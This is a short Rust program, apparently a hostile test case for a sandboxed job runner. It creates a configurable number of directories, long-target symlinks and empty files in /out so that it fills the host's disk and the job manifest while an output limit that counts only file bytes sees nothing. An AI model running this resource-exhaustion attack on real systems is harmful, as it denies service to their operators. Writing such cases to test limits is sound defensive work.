//! Attack: fill the host's disk and the job's manifest without writing a byte to a file:
//! `count` (parameter, default 1000) each of directories, links with 4000-byte targets and
//! empty files in `/out`. An output limit that counts only files' bytes sees nothing.

fn main() {
    let count: usize = hostile::param("count")
        .and_then(|c| c.parse().ok())
        .unwrap_or(1000);
    let target = "t/".repeat(2000);
    for i in 0..count {
        std::fs::create_dir(format!("/out/dir-{i}")).unwrap();
        hostile::symlink(&target, &format!("/out/link-{i}")).unwrap();
        std::fs::write(format!("/out/empty-{i}"), "").unwrap();
    }
    println!("made {count} directories, links and empty files");
}
